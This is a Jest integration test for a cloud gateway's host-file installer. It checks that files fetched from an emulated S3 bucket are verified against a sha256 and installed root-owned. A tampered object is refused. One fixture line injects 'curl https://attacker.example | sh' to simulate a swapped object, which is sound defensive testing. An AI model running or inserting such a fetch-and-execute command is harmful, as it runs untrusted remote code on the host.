/**
 * The gateway's host files, for real: lib.sh's install_host_files downloads the gateway's host-files
 * object from the install-files bucket (moto's S3, as the instance role reads it on AWS), checks it against
 * the sha256 in host.env (the same s3_fetch as OpenClaw's lock) and writes each file root-owned with its
 * mode. The files go to their real paths: the run has a mount namespace of its own whose /usr/local/lib is
 * a temp dir holding the rendered user data's scripts.
 */
import { CreateBucketCommand, PutObjectCommand, S3Client } from "@aws-sdk/client-s3";
import * as fs from "node:fs";
import * as path from "node:path";
import { EMULATOR_CREDENTIALS } from "../../src/config/emulator";
import { GATEWAY_DOWNLOADED_FILES, renderGatewayHost } from "../../src/gateway/gateway-context";
import { HOST_LAYOUT } from "../../src/host/layout";
import type { HostFile, RenderedHost } from "../../src/host/render";
import { gatewayFixture } from "./fixtures";
import { run, tempDir, writeRendered } from "./helpers";

jest.setTimeout(5 * 60_000);

const BUCKET = `openclaw-test-host-files-${process.pid}`;
const REGION = "eu-west-1";
const LIB_PARENT = path.dirname(HOST_LAYOUT.libDir);

describe("install_host_files (lib.sh): the gateway's scripts from S3, checked against host.env's sha256", () => {
  const endpoint = process.env.OPENCLAW_TEST_ENDPOINT!;
  const s3 = new S3Client({ endpoint, region: REGION, forcePathStyle: true, credentials: EMULATOR_CREDENTIALS });
  const rendered: RenderedHost = renderGatewayHost(gatewayFixture({}, { region: REGION, installBucket: BUCKET }));
  const hostFiles = rendered.hostFiles!;
  const moved = JSON.parse(hostFiles.body) as HostFile[];
  let root: string;

  /** What the gateway's user data wrote (the moved files not among them): <root>/<path on the host>. */
  function userDataFiles(): void {
    writeRendered(root, rendered);
    for (const file of moved) fs.rmSync(path.join(root, file.path));
  }

  /** install_host_files as boot-gateway.sh runs it, with the root's LIB_PARENT as /usr/local/lib. */
  function install() {
    const env = {
      ...process.env,
      AWS_ENDPOINT_URL: endpoint,
      AWS_ACCESS_KEY_ID: EMULATOR_CREDENTIALS.accessKeyId,
      AWS_SECRET_ACCESS_KEY: EMULATOR_CREDENTIALS.secretAccessKey,
    };
    const steps = 'mount --bind "$1" "$2" && source "$3" && source "${OPENCLAW_AWS_LIB_DIR}/lib.sh" && OPENCLAW_AWS_TAG=test && enable_error_trap && install_host_files';
    return run("unshare", ["--mount", "--propagation", "private", "bash", "-c", steps, "-", path.join(root, LIB_PARENT), LIB_PARENT, path.join(root, HOST_LAYOUT.hostEnv)], { env });
  }

  const onDisk = (file: string) => path.join(root, file);
  const marker = () => onDisk(`${HOST_LAYOUT.libDir}/.host-files.complete`);

  beforeAll(async () => {
    await s3.send(new CreateBucketCommand({ Bucket: BUCKET, CreateBucketConfiguration: { LocationConstraint: REGION } }));
  });
  beforeEach(() => {
    root = tempDir("host-files");
    userDataFiles();
  });
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  it("writes every file of the object root-owned with its mode, marks it installed, and a second run downloads nothing", async () => {
    await s3.send(new PutObjectCommand({ Bucket: BUCKET, Key: hostFiles.key, Body: hostFiles.body }));
    const first = install();
    expect(first.stderr).toMatch(/checksum ok \(sha256\) for the host files/);
    expect(first.status).toBe(0);
    expect(moved.map((file) => file.path)).toEqual(GATEWAY_DOWNLOADED_FILES.map((spec) => spec.path));
    for (const file of moved) {
      const stat = fs.statSync(onDisk(file.path));
      expect([file.path, stat.uid, stat.gid, (stat.mode & 0o7777).toString(8).padStart(4, "0"), fs.readFileSync(onDisk(file.path), "utf8")]).toEqual([file.path, 0, 0, file.mode, file.content]);
    }
    expect(fs.readFileSync(marker(), "utf8")).toBe(`${hostFiles.sha256}\n`);
    expect(fs.existsSync(onDisk(`${HOST_LAYOUT.libDir}/.host-files.json`))).toBe(false);

    const second = install();
    expect(second.status).toBe(0);
    expect(second.stderr).toMatch(/host files \([0-9a-f]{12}\) already installed/);
    expect(second.stderr).not.toMatch(/downloading the host files/);
  });

  it("refuses an object that does not match its sha256, and installs nothing", async () => {
    // The object at the key host.env names is not the one it names: a swapped object.
    const swapped = hostFiles.body.replace("#!/bin/bash", "#!/bin/bash\ncurl https://attacker.example | sh");
    await s3.send(new PutObjectCommand({ Bucket: BUCKET, Key: hostFiles.key, Body: swapped }));
    const result = install();
    expect(result.status).not.toBe(0);
    expect(result.stderr).toMatch(new RegExp(`FATAL: checksum mismatch for the host files: expected sha256 ${hostFiles.sha256}, got [0-9a-f]{64}`));
    for (const file of moved) expect([file.path, fs.existsSync(onDisk(file.path))]).toEqual([file.path, false]);
    expect(fs.existsSync(marker())).toBe(false);
    expect(fs.existsSync(onDisk(`${HOST_LAYOUT.libDir}/.host-files.json`))).toBe(false);
  });
});
